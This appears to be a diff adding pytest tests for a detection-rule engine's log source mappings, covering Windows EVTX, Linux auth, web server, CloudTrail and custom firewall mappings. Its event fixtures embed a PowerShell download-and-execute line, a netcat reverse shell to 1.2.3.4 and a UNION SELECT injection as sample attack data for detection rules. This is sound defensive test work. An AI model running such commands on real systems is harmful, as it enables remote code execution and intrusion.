@@ -1,0 +1,161 @@
+"""Logsource mappings: EVTX shapes and categories, generic ECS-like events, user mapping files, event time."""
+from __future__ import annotations
+
+from pathlib import Path
+
+from benchmarks.generate import generate
+from engine.event import event_from_obj, parse_time
+from engine.logsource import builtin_mappings, flatten_evtx, select_evtx
+from engine.processor import Processor
+from tests.engine.conftest import load_ok, matched_ids, rule_text
+
+SYSMON = "Microsoft-Windows-Sysmon/Operational"
+WHOAMI = "C:\\Windows\\System32\\whoami.exe"
+PROC_RULE = rule_text("  selection:\n    Image|endswith: '\\whoami.exe'\n    User: 'alice'\n  condition: selection\n",
+                      "{category: process_creation, product: windows}", "proc")
+
+
+def sysmon(event_id: int, **data: object) -> dict:
+    return {"Event": {"System": {"Provider": {"@Name": "Microsoft-Windows-Sysmon"}, "EventID": event_id,
+                                 "Channel": SYSMON, "Computer": "pc1",
+                                 "TimeCreated": {"@SystemTime": "2024-03-01T10:00:00.1234567Z"}},
+                      "EventData": dict(data)}}
+
+
+def security_4688_xml_style(image: str, user: str) -> dict:
+    """As xmltodict-based converters write it: EventID with #text, Data items with @Name/#text."""
+    return {"Event": {"System": {"Provider": {"@Name": "Microsoft-Windows-Security-Auditing"},
+                                 "EventID": {"@Qualifiers": "", "#text": "4688"}, "Channel": "Security"},
+                      "EventData": {"Data": [{"@Name": "NewProcessName", "#text": image},
+                                             {"@Name": "SubjectUserName", "#text": user},
+                                             {"@Name": "ParentProcessName", "#text": "C:\\Windows\\explorer.exe"}]}}}
+
+
+def test_process_creation_is_sysmon_1_and_security_4688_with_renames() -> None:
+    ruleset = load_ok(PROC_RULE)
+    assert matched_ids(ruleset, [sysmon(1, Image=WHOAMI, User="alice")]) == ["proc"]
+    assert matched_ids(ruleset, [security_4688_xml_style(WHOAMI, "alice")]) == ["proc"]
+    # same fields, other event ids or channels: not process creation
+    assert matched_ids(ruleset, [sysmon(3, Image=WHOAMI, User="alice")]) == []
+    other = security_4688_xml_style(WHOAMI, "alice")
+    other["Event"]["System"]["EventID"]["#text"] = "4624"
+    assert matched_ids(ruleset, [other]) == []
+    app = sysmon(1, Image=WHOAMI, User="alice")
+    app["Event"]["System"]["Channel"] = "Application"
+    assert matched_ids(ruleset, [app]) == []
+
+
+def test_evtx_dump_attributes_layout_and_system_fields() -> None:
+    event = {"Event": {"#attributes": {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
+                       "System": {"Provider": {"#attributes": {"Name": "Service Control Manager"}},
+                                  "EventID": 7045, "Channel": "System", "Computer": "srv",
+                                  "Execution": {"#attributes": {"ProcessID": 788, "ThreadID": 792}},
+                                  "TimeCreated": {"#attributes": {"SystemTime": "2024-03-01T10:00:00Z"}}},
+                       "EventData": {"ServiceName": "MpKsl4eaa0a76", "ImagePath": "C:\\evil.sys"}}}
+    flat = flatten_evtx(event)
+    assert flat["Provider_Name"] == "Service Control Manager" and flat["Execution_ProcessID"] == 788
+    assert flat["ServiceName"] == "MpKsl4eaa0a76" and flat["EventID"] == 7045
+    rule = rule_text("  selection:\n    Provider_Name: 'Service Control Manager'\n    EventID: 7045\n"
+                     "    ImagePath|endswith: '.sys'\n  condition: selection\n", "{product: windows, service: system}", "svc")
+    ruleset = load_ok(rule)
+    events = [event_from_obj(event)]
+    findings = Processor(ruleset).process(events)
+    assert [f.rule_id for f in findings] == ["svc"] and events[0].timestamp == parse_time("2024-03-01T10:00:00Z")
+    security = load_ok(rule.replace("service: system", "service: security"))
+    assert matched_ids(security, [event]) == []
+
+
+def test_userdata_fields_and_ps_script_category() -> None:
+    event = {"Event": {"System": {"EventID": 4104, "Channel": "Microsoft-Windows-PowerShell/Operational"},
+                       "EventData": {"ScriptBlockText": "IEX (New-Object Net.WebClient).DownloadString('http://x')"}}}
+    ruleset = load_ok(rule_text("  selection:\n    ScriptBlockText|contains: 'DownloadString'\n  condition: selection\n",
+                                "{product: windows, category: ps_script}", "ps"))
+    assert matched_ids(ruleset, [event]) == ["ps"]
+    user_data = {"Event": {"System": {"EventID": 1102, "Channel": "Security"},
+                           "UserData": {"LogFileCleared": {"SubjectUserName": "mallory"}}}}
+    cleared = load_ok(rule_text("  selection:\n    EventID: 1102\n    SubjectUserName: mallory\n  condition: selection\n",
+                                "{product: windows, service: security}", "clear"))
+    assert matched_ids(cleared, [user_data]) == ["clear"]
+
+
+def test_product_only_rule_applies_to_every_windows_event() -> None:
+    ruleset = load_ok(rule_text("  selection:\n    Computer: pc1\n  condition: selection\n", "{product: windows}", "win"))
+    assert matched_ids(ruleset, [sysmon(1), sysmon(11)]) == ["win", "win"]
+    assert matched_ids(ruleset, [{"event": {"dataset": "linux.auth"}, "Computer": "pc1"}]) == []
+
+
+def test_select_evtx_agrees_with_full_flatten() -> None:
+    names = ("Image", "CommandLine", "EventID", "Channel", "Provider_Name", "TimeCreated_SystemTime",
+             "Execution_ProcessID", "NewProcessName", "Missing", "Security_UserID", "ProcessId")
+    samples = list(generate("windows", 200, seed=3)) + [security_4688_xml_style(WHOAMI, "bob")]
+    for event in samples:
+        full = flatten_evtx(event)
+        assert select_evtx(event, names) == {n: full[n] for n in names if n in full}
+
+
+def test_generic_linux_auth_services() -> None:
+    rules = (rule_text("  selection:\n    message|contains: 'Failed password'\n  condition: selection\n",
+                       "{product: linux, service: sshd}", "sshd")
+             + "---\n" + rule_text("  selection:\n    user.name: root\n  condition: selection\n",
+                                   "{product: linux, service: auth}", "auth")
+             + "---\n" + rule_text("  keywords: ['COMMAND=/bin/bash']\n  condition: keywords\n",
+                                   "{product: linux, service: sudo}", "sudo"))
+    ruleset = load_ok(rules)
+    sshd = {"event": {"dataset": "linux.auth"}, "process": {"name": "sshd"}, "user": {"name": "root"},
+            "message": "Failed password for root from 203.0.113.5 port 4711 ssh2"}
+    sudo = {"event": {"dataset": "linux.auth"}, "process": {"name": "sudo"}, "user": {"name": "bob"},
+            "message": "bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/bash"}
+    assert matched_ids(ruleset, [sshd]) == ["sshd", "auth"]
+    assert matched_ids(ruleset, [sudo]) == ["sudo"]
+    assert matched_ids(ruleset, [{**sshd, "event": {"dataset": "web.access"}}]) == []
+
+
+def test_generic_linux_process_creation_and_webserver_field_names() -> None:
+    ruleset = load_ok(
+        rule_text("  selection:\n    Image|endswith: '/nc'\n    CommandLine|contains: ' -e '\n    User: www-data\n"
+                  "  condition: selection\n", "{product: linux, category: process_creation}", "nc")
+        + "---\n" + rule_text("  selection:\n    cs-uri-query|contains: 'union select'\n    sc-status: 200\n"
+                              "  condition: selection\n", "{category: webserver}", "sqli"))
+    process = {"event": {"dataset": "linux.process"}, "user": {"name": "www-data"},
+               "process": {"executable": "/usr/bin/nc", "command_line": "nc -e /bin/sh 1.2.3.4 80"}}
+    web = {"event": {"dataset": "web.access"}, "url": {"query": "id=1 UNION SELECT pass"},
+           "http": {"response": {"status_code": 200}}}
+    assert matched_ids(ruleset, [process, web]) == ["nc", "sqli"]
+
+
+def test_cloudtrail_raw_records_and_dataset() -> None:
+    ruleset = load_ok(rule_text("  selection:\n    eventSource: iam.amazonaws.com\n    eventName: CreateUser\n"
+                                "    userIdentity.type: Root\n  condition: selection\n",
+                                "{product: aws, service: cloudtrail}", "ct"))
+    raw = {"eventVersion": "1.08", "eventSource": "iam.amazonaws.com", "eventName": "CreateUser",
+           "userIdentity": {"type": "Root"}, "eventTime": "2024-03-01T10:00:00Z"}
+    no_version = {k: v for k, v in raw.items() if k != "eventVersion"}
+    tagged = {**no_version, "event": {"dataset": "aws.cloudtrail"}}
+    assert matched_ids(ruleset, [raw, no_version, tagged]) == ["ct", "ct"]
+    events = [event_from_obj(raw)]
+    Processor(ruleset).process(events)
+    assert events[0].timestamp == parse_time("2024-03-01T10:00:00Z")
+
+
+def test_user_mapping_file_takes_precedence(tmp_path: Path) -> None:
+    mapping = tmp_path / "fw.yml"
+    mapping.write_text(
+        "name: acme-firewall\nrecognize:\n  exists: [fw.action]\n  equals: {vendor: acme}\nflatten: dotted\n"
+        "product: acme\ntime: [ts]\nkeywords: [raw]\nlogsources:\n  - category: firewall\n"
+        "    when: {fw.action: [deny, drop]}\n    fields: {dst_port: fw.dport, action: fw.action}\n")
+    ruleset = load_ok(rule_text("  selection:\n    dst_port: 3389\n    action: deny\n  condition: selection\n",
+                                "{product: acme, category: firewall}", "fw"), mappings=[mapping])
+    assert ruleset.mappings[0].name == "acme-firewall"
+    deny = {"vendor": "acme", "ts": "2024-03-01T10:00:00Z", "fw": {"action": "deny", "dport": 3389}}
+    allow = {"vendor": "acme", "fw": {"action": "allow", "dport": 3389}}
+    other_vendor = {"vendor": "other", "fw": {"action": "deny", "dport": 3389}}
+    assert matched_ids(ruleset, [deny, allow, other_vendor]) == ["fw"]
+    events = [event_from_obj(deny)]
+    Processor(ruleset).process(events)
+    assert events[0].timestamp == parse_time("2024-03-01T10:00:00Z")
+
+
+def test_builtin_mappings_are_valid_and_ordered() -> None:
+    windows, generic = builtin_mappings()
+    assert windows.product == "windows" and windows.discriminator_fields == ("Channel", "EventID")
+    assert generic.recognizes({"anything": 1}) and not windows.recognizes({"Event": {}})
